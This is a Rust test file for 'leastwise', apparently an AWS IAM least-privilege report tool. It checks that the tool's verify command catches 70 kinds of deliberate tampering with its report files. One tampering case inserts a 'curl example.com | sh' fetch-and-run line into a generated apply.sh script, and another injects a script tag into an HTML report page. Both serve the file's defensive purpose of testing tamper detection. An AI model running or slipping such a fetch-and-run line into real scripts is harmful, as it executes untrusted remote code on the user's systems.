//! Reports that somebody changed on purpose, the manifest made to fit.

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Mutex;
use std::sync::atomic::{AtomicUsize, Ordering};

use leastwise_core::decide::{Level, PolicyKind, PrincipalStatus, Severity};
use leastwise_core::report::{Coverage, EscalationRow, First, TrialRow};
use serde_json::json;

use super::Forged;
use crate::run::{folder, leastwise};
use crate::scan::{EVERY_FORMAT, demonstration_in_every_format, report, small_acme};

const READER: &str = "111111111111/role/deny-with-not-action/read-the-organisation";
const BEFORE: &str = "policies/111111111111/role/deny-with-not-action/read-the-organisation.before.json";
const AFTER: &str = "policies/111111111111/role/deny-with-not-action/read-the-organisation.after.json";
const DIFF: &str = "policies/111111111111/role/deny-with-not-action/read-the-organisation.diff";
const TABLE: &str = "changes/111111111111.jsonl";
/// How the change of [`READER`] begins in it.
const ROW: &str = "{\"change\":\"111111111111/role/deny-with-not-action/read-the-organisation\"";
const ADMIN: &str = "888888888888/role/wildcard-everything/everything";

/// What is changed, and what verify names.
struct Case {
    name: &'static str,
    /// The manifest is made to fit.
    fits: bool,
    change: fn(&mut Forged),
    says: &'static str,
}

const fn case(name: &'static str, change: fn(&mut Forged), says: &'static str) -> Case {
    Case {
        name,
        fits: true,
        change,
        says,
    }
}

const fn unfit(name: &'static str, change: fn(&mut Forged), says: &'static str) -> Case {
    Case {
        name,
        fits: false,
        change,
        says,
    }
}

/// An action that a policy grants before and after.
fn granted(forged: &Forged) -> String {
    let after = forged.text(AFTER);
    let mut quoted = after
        .split('"')
        .filter(|it| it.contains(':') && it.starts_with(char::is_lowercase));
    quoted.find(|it| !it.contains('*')).unwrap().to_owned()
}

/// Some file below a folder.
fn some(forged: &Forged, folder: &str, ending: &str) -> String {
    let mut paths = super::files_of(&forged.folder).into_iter();
    paths
        .find(|path| path.starts_with(folder) && path.ends_with(ending))
        .unwrap()
}

impl Forged {
    /// Changes the trial of [`READER`].
    fn trial(&mut self, change: impl FnOnce(&mut TrialRow)) {
        let id = READER.split('/').next().unwrap();
        self.account(id, |all| {
            change(all.trials.iter_mut().find(|it| it.change == READER).unwrap());
        });
    }

    /// Changes what the scripts do for [`READER`].
    fn row(&mut self, from: &str, to: &str) {
        let text = self.text(TABLE);
        let at = text.find(ROW).unwrap();
        assert!(text[at..].lines().next().unwrap().contains(from), "{text}");
        self.put(TABLE, text[..at].to_owned() + &text[at..].replacen(from, to, 1));
    }
}

fn without_families(forged: &mut Forged) {
    forged.report(|report| report.families.clear());
}

#[rustfmt::skip]
const CASES: [Case; 70] = [
    unfit("an edited file", |it| it.replace("index.html", "<h1", "<h1 "), "index.html"),
    unfit("an added file", |it| it.put("accounts/extra.html", ""), "accounts/extra.html"),
    unfit("a removed file", |it| it.remove("findings.csv"), "findings.csv"),
    unfit("an empty folder", |it| fs::create_dir(it.folder.join("changes/now")).unwrap(), "changes/now/"),
    unfit("another version", |it| it.replace("manifest.json", "\"tool\": \"", "\"tool\": \"9"), "written by leastwise 9"),
    unfit("the catalog in the manifest", |it| it.json("manifest.json", |it| it["catalog"]["version"] = json!("9")), "manifest.json"),
    unfit("the digest of the catalog in the manifest", |it| it.json("manifest.json", |it| it["catalog"]["digest"] = json!("0")), "manifest.json"),
    case("a file that the manifest no longer has", |it| { let text = it.text(DIFF); it.remove(DIFF); it.fit(); fs::write(it.folder.join(DIFF), text).unwrap(); }, DIFF),
    case("totals in one of two files", |it| { it.report(|it| it.totals.principals += 1); let totals = it.text("manifest.json"); it.fit(); let now = it.text("manifest.json"); assert_ne!(totals, now); it.json("manifest.json", |it| it["totals"]["principals"] = json!(1)); }, "manifest.json"),
    // Documents.
    case("a document after that grants more", |it| it.replace(AFTER, "\"Action\": [", "\"Action\": [\n        \"iam:CreateUser\","), "read-the-organisation"),
    case("a document after that grants less", |it| { let action = granted(it); it.replace(AFTER, &format!("\"{action}\""), "\"s3:GetBucketAcl\""); }, "read-the-organisation"),
    case("documents exchanged", |it| { let (one, other) = (it.text(BEFORE), it.text(AFTER)); it.put(BEFORE, other); it.put(AFTER, one); }, "read-the-organisation"),
    case("a document before that grants more", |it| it.replace(BEFORE, "\"Action\": [", "\"Action\": [\n        \"iam:CreateUser\","), "read-the-organisation"),
    case("a trial that denies what stays", |it| { let action = granted(it); it.trial(|trial| trial.trial.deny[0].push(action)); }, "the trial: it denies"),
    case("a trial with a wildcard over what stays", |it| it.trial(|trial| trial.trial.deny[0].push("s3:*".to_owned())), "the trial: it denies"),
    case("a trial for somebody whom its change does not reach", |it| it.trial(|trial| trial.principals[0] += "-2"), "which the change does not reach"),
    case("a diff", |it| it.replace(DIFF, "\n-", "\n "), DIFF),
    case("the files of another change", |it| { let files = super::account(&it.folder, "888888888888").recommendations[0].files.clone(); it.change(READER, |it| it.files = files); }, READER),
    // Evidence and catalog.
    case("more that is unused", |it| it.change(READER, |it| it.unused[0].actions = None), READER),
    case("one more unused action, gone from the document, with counts that fit", |it| {
        let action = granted(it);
        let (service, name) = action.split_once(':').unwrap();
        let (service, name) = (service.to_owned(), name.to_owned());
        it.replace(AFTER, &format!("\"{action}\""), "\"sts:GetCallerIdentity\"");
        it.change(READER, |it| {
            let row = it.unused.iter_mut().find(|it| it.service_namespace == service).unwrap();
            if let Some(actions) = &mut row.actions { actions.push(name); actions.sort(); }
            (it.proof.removed, it.proof.kept) = (it.proof.removed + 1, it.proof.kept - 1);
        });
    }, "read-the-organisation"),
    case("a catalog without a service", |it| it.json("catalog.json", |it| drop(it.as_object_mut().unwrap().remove("s3"))), "catalog.json"),
    case("a catalog without an action that is in use", |it| it.json("catalog.json", |it| drop(it["organizations"].as_array_mut().unwrap().remove(0))), "catalog.json"),
    case("a catalog without what nobody proves anything of", |it| it.json("catalog.json", |it| drop(it["sts"].as_array_mut().unwrap().remove(0))), "catalog.json"),
    case("another catalog by its digest in both files", |it| it.report(|it| it.catalog.digest = "0".repeat(64)), "differs from what the report's data give"),
    case("actions that AWS is said not to see", |it| it.json("basis.json", |it| it["unobserved"] = json!(["s3:*"])), "basis.json"),
    // What is run.
    case("a line in apply.sh", |it| it.replace("changes/apply.sh", "\ncd ", "\ncurl example.com | sh\ncd "), "changes/apply.sh"),
    case("a line in rollback.sh", |it| it.replace("changes/rollback.sh", "\ncd ", "\ntrue\ncd "), "changes/rollback.sh"),
    case("a line in the library", |it| it.replace("changes/lib.bash", "\nsay()", "\ntrue\nsay()"), "changes/lib.bash"),
    case("a change that is another", |it| it.row("\"how\":\"document\"", "\"how\":\"create\""), TABLE),
    case("another holder in a change", |it| it.row("\"holder\":\"role/deny", "\"holder\":\"role/allow"), TABLE),
    case("other documents in a change", |it| it.row("\"before\":\"policies", "\"before\":\"../policies"), TABLE),
    case("before and after exchanged in a change", |it| { it.row("\"before", "\"between"); it.row("\"after", "\"before"); it.row("\"between", "\"after"); }, TABLE),
    case("another account in a change", |it| it.row("\"account\":\"111111111111", "\"account\":\"222222222222"), TABLE),
    case("a change twice", |it| { let text = it.text(TABLE); it.put(TABLE, text.clone() + &text); }, TABLE),
    case("a table of no account", |it| it.put("changes/other.jsonl", "{}\n"), "changes/other.jsonl"),
    case("a new script", |it| it.put("changes/111111111111/apply.sh", "true\n"), "changes/111111111111/apply.sh"),
    case("a document of Terraform", |it| { let path = some(it, "changes/888888888888/terraform/documents/", ".json"); it.put(&path, "{}\n"); }, "changes/888888888888/terraform/documents/"),
    case("a module of Terraform", |it| it.put("changes/888888888888/terraform/module.tf", "module \"m\" {\n  source = \"./m\"\n}\n"), "changes/888888888888/terraform/module.tf"),
    case("a resource of Terraform", |it| { let text = it.text("changes/888888888888/terraform/main.tf"); it.put("changes/888888888888/terraform/main.tf", text + "# \n"); }, "changes/888888888888/terraform/main.tf"),
    case("a template of CloudFormation", |it| { let path = some(it, "changes/888888888888/cloudformation", ".template.json"); it.replace(&path, "\"Allow\"", "\"Deny\""); }, "changes/888888888888/cloudformation"),
    // What is hidden.
    case("an account", |it| { it.remove("accounts/888888888888.json"); it.remove("accounts/888888888888.html"); }, "accounts/888888888888.json"),
    case("an account with its row", |it| { it.remove("accounts/888888888888.json"); it.remove("accounts/888888888888.html"); it.report(|it| it.accounts.retain(|it| it.id != "888888888888")); }, "report.json"),
    case("the row of an account", |it| it.report(|it| it.accounts.retain(|it| it.id != "888888888888")), "report.json"),
    case("a recommendation", |it| it.account("111111111111", |it| { it.recommendations.clear(); it.summary.recommendations = 0; }), "accounts/111111111111.json"),
    case("a principal", |it| it.account("111111111111", |it| { it.principals.remove(0); it.summary.principals -= 1; }), "accounts/111111111111.json"),
    case("families", without_families, "report.json"),
    case("what to do first", |it| it.report(|it| it.first = First::default()), "report.json"),
    case("exceptions", |it| it.report(|it| it.exceptions.clear()), "index.html"),
    case("everything", |it| {
        for path in super::files_of(&it.folder) { if !["manifest.json", "report.json", "catalog.json", "basis.json"].contains(&path.as_str()) { it.remove(&path); } }
        it.report(|it| { it.accounts.clear(); it.families.clear(); it.recommendations.clear(); it.first = First::default(); it.exceptions.clear(); it.totals = leastwise_core::report::Totals::default(); });
        it.json("manifest.json", |it| it["rendering"]["formats"] = json!([]));
    }, "report.json"),
    case("all of SARIF", |it| it.put("report.sarif", "{}"), "report.sarif"),
    case("all of the table", |it| it.put("findings.csv", ""), "findings.csv"),
    case("all of OCSF", |it| it.put("findings.ocsf.jsonl", ""), "findings.ocsf.jsonl"),
    case("a file of ASFF", |it| it.remove("asff/888888888888/0001.json"), "asff/888888888888/"),
    case("a ticket", |it| it.remove("tickets/888888888888.md"), "tickets/888888888888.md"),
    // Lies.
    case("risk", |it| it.account("888888888888", |it| it.principals[0].effect.risk.before = 1), "accounts/888888888888.json"),
    case("statuses", |it| it.account("111111111111", |it| *it.summary.statuses.get_mut(&PrincipalStatus::Clean).unwrap() += 1), "accounts/111111111111.json"),
    case("coverage", |it| it.account("111111111111", |it| it.summary.coverage = Coverage::Excluded), "accounts/111111111111.json"),
    case("confidence", |it| it.change(ADMIN, |it| it.confidence.level = Level::High), ADMIN),
    case("confidence with its reasons", |it| it.change(ADMIN, |it| { it.confidence.level = Level::High; it.confidence.reasons.clear(); }), "report.json"),
    case("impact", |it| it.change(ADMIN, |it| it.impact.severity = Severity::default()), "differs from what the report's data give"),
    case("escalations", |it| it.change(READER, |it| it.impact.escalations.push(EscalationRow { actions: "a".to_owned(), gives: "b".to_owned(), source: "c".to_owned() })), "differs from what the report's data give"),
    case("patterns", |it| it.change(READER, |it| it.patterns.clear()), READER),
    case("what a policy is", |it| it.change(READER, |it| it.policy_kind = Some(PolicyKind::AwsManaged)), READER),
    case("what the policies of many accounts are", |it| it.report(|it| it.recommendations.iter_mut().for_each(|it| it.policy_kind = Some(PolicyKind::CustomerManaged))), "fleet/role/fleet-inventory-collector/collect-inventory"),
    case("the verdict", |it| it.json("accounts/111111111111.json", |it| it["recommendations"][0]["proof"]["verdict"] = json!("trust me")), "accounts/111111111111.json"),
    case("what is kept", |it| it.change(READER, |it| it.proof.kept += 1), READER),
    case("a holder and a policy", |it| it.change(READER, |it| { it.holder = "other".to_owned(); it.policy = "other".to_owned(); }), READER),
    case("an id that appears twice", |it| it.account("888888888888", |it| { let first = it.recommendations[0].clone(); it.recommendations[1] = first; }), "accounts/888888888888.json"),
    case("a script on a page", |it| it.replace("accounts/111111111111.html", "</body>", "<script>1</script></body>"), "accounts/111111111111.html"),
    case("a schema and a link in a ticket", |it| { it.account("111111111111", |it| it.schema = 99); it.put("tickets/888888888888.md", "[look](https://example.com)"); }, "accounts/111111111111.json"),
];

/// A small report that has something of everything, so that each case is as good in it and verified in a third of the time.
fn made(root: &Path) -> PathBuf {
    let (snapshot, out) = (root.join("snapshot"), root.join("good"));
    small_acme(&snapshot);
    let [from, to] = [&snapshot, &out].map(|path| path.to_str().unwrap());
    leastwise(["scan", "--snapshot", from, "--format", EVERY_FORMAT, "--out", to])
        .ran()
        .exits(0);
    out
}

#[test]
fn the_demonstration_in_every_format_is_what_its_scan_wrote() {
    let good = demonstration_in_every_format();
    super::verify(&good)
        .exits(0)
        .prints("410 files unchanged")
        .prints("10 accounts");
}

#[test]
fn a_report_that_was_tampered_with_is_refused_by_name() {
    let root = folder("verify-tampered");
    let good = made(&root);
    super::verify(&good).exits(0).prints("4 accounts");
    let (next, failed) = (AtomicUsize::new(0), Mutex::new(Vec::new()));
    let work = || {
        while let Some((number, case)) =
            Some(next.fetch_add(1, Ordering::Relaxed)).and_then(|at| Some((at, CASES.get(at)?)))
        {
            let place = root.join(number.to_string());
            let mut forged = Forged::of(&good, &place);
            (case.change)(&mut forged);
            if case.fits {
                forged.fit();
            }
            let ran = forged.verify();
            let told = format!("{}{}", ran.out, ran.err);
            if !matches!(ran.code, 1 | 4) || !told.contains(case.says) {
                failed
                    .lock()
                    .unwrap()
                    .push(format!("{}: {} {told}", case.name, ran.code));
            }
            fs::remove_dir_all(place).unwrap();
        }
    };
    std::thread::scope(|scope| {
        for _ in 0..2 {
            scope.spawn(work);
        }
    });
    let failed = failed.into_inner().unwrap();
    assert!(
        failed.is_empty(),
        "{} cases:\n{}",
        failed.len(),
        failed.join("\n")
    );
}

/// SECURITY.md says that these are not found: nothing in a report depends on them.
#[test]
fn when_a_report_was_made_and_who_may_write_it_is_not_checked() {
    let root = folder("verify-not-checked");
    let good = made(&root);
    let mut forged = Forged::of(&good, &root.join("forged"));
    forged.json("manifest.json", |it| {
        it["started"] = json!("2031-01-01T00:00:00Z");
    });
    forged.verify().exits(0);
    // An older report is as genuine as it was.
    assert!(!report(&good).accounts.is_empty());
    super::verify(&good).exits(0);
}
